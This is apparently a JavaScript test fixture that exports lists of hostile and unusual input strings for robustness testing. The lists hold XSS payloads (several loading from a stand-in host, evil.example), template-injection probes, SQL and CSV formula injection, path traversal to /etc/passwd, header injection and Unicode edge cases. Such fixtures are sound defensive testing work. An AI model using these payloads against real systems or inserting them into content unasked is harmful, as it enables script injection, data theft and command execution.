import { existsSync, readFileSync } from "node:fs";
import { resolve } from "node:path";

/** Texts that try to be more than text. */
export const own = [
  "<script>alert(1)</script>", "<script src=//evil.example/x.js></script>", "</textarea><script>alert(2)</script>", "\"><script>alert(3)</script>", "'><script>alert(4)</script>",
  "<img src=x onerror=alert(5)>", "<img src=\"//evil.example/pixel.png\">", "\"><img src=x onerror=alert(6)>", "<img/src/onerror=alert(7)>", "<IMG SRC=JaVaScRiPt:alert(8)>",
  "<svg onload=alert(9)>", "<svg><script>alert(10)</script></svg>", "<svg><a xlink:href=\"javascript:alert(11)\"><text y=20>x</text></a></svg>", "<svg><animate onbegin=alert(12) attributeName=x dur=1s>",
  "<iframe src=javascript:alert(13)>", "<iframe srcdoc=\"<script>alert(14)</script>\">", "<object data=javascript:alert(15)>", "<embed src=//evil.example/x.swf>", "<base href=//evil.example/>",
  "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<style>@import '//evil.example/x.css'</style>", "<style>*{display:none}</style>", "<div style=\"position:fixed;inset:0\">",
  "<body onload=alert(16)>", "<details open ontoggle=alert(17)>", "<video><source onerror=alert(18)>", "<input autofocus onfocus=alert(19)>", "<form action=//evil.example><button>Send</button>", "<a href=javascript:alert(20)>tap</a>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(21)>", "<noscript><p title=\"</noscript><img src=x onerror=alert(22)>\">", "<template><script>alert(23)</script></template>", "<marquee onstart=alert(24)>", "<x contenteditable onblur=alert(25)>",
  "javascript:alert(26)", "data:text/html,<script>alert(27)</script>", "javascript&colon;alert(28)", "&lt;script&gt;alert(29)&lt;/script&gt;", "%3Cscript%3Ealert(30)%3C/script%3E", "\\u003cscript\\u003ealert(31)\\u003c/script\\u003e",
  "{{constructor.constructor('alert(32)')()}}", "${alert(33)}", "#{7*7}", "<%= 7*7 %>", "{{7*7}}", "{% for x in y %}", "@{7*7}", "{text}", "{n} {0} {title}", "%s %d %n",
  "*/alert(34)/*", "-->", "<!--", "]]>", "<![CDATA[", "</script>", "</style>", "</bdi></p></li></ul>", "<p>", "#set page(width: 1pt)", "#import \"x.typ\"", "$ x^2 $", "`#eval(\"1\")`", "\\input{/etc/passwd}", "[click](javascript:alert(35))", "![x](//evil.example/x.png)",
  "'; DROP TABLE entry; --", "\" OR 1=1 --", "=cmd|'/C calc'!A0", "+1+1", "-1-1", "@SUM(1)", "../../../../etc/passwd", "C:\\nul", "/dev/null\r\nSet-Cookie: a=b",
  "__proto__", "constructor", "toString", "null", "undefined", "NaN", "true", "0", "-0", "1e309", "[object Object]",
  "\u202Eright to left override\u202C and on", "\u2066isolate without end", "\u200Fשלום עולם\u200F 123", "مرحبا بالعالم – (نص) 123", "a\u200Db\u200Cc\u200Bd", "\uFEFFbyte order mark", "👨‍👩‍👧‍👦 👩🏽‍🚒 🏳️‍🌈 🇮🇹", "🏴\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}",
  "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!", "e" + "\u0301".repeat(200), "Donaudampfschifffahrtsgesellschaftskapitänsmützenabzeichen".repeat(4), "ﷺ".repeat(60), "𒐫".repeat(60), "W".repeat(280), "᠎᠎᠎ vowel separators", "line one\nline two\n\n\nline five", "tab\there", "ｆｕｌｌ ｗｉｄｔｈ", "ﬁ ligature", "Ω Ω", "\u2028line separator\u2029",
];

/** Texts that may be refused, with a reason, and never break anything. */
export const refusable = ["", " ", "\0", "a\0b", "\u0085next line", "\ud800", "a\udfffb", "\u202E", "\u200B", "x".repeat(10_000), "e" + "\u0301".repeat(10_000), "long ".repeat(1_700)];

const read = name => {
  const at = resolve(import.meta.dirname, "../../../../shared/data/text", name);
  return existsSync(at) ? readFileSync(at, "utf8") : "";
};

/** Each line of the collections that the tests share. */
export const collected = () => [...JSON.parse(read("naughty_strings_a.json") || "[]"), ...read("csv_injection_a.txt").split("\n")];
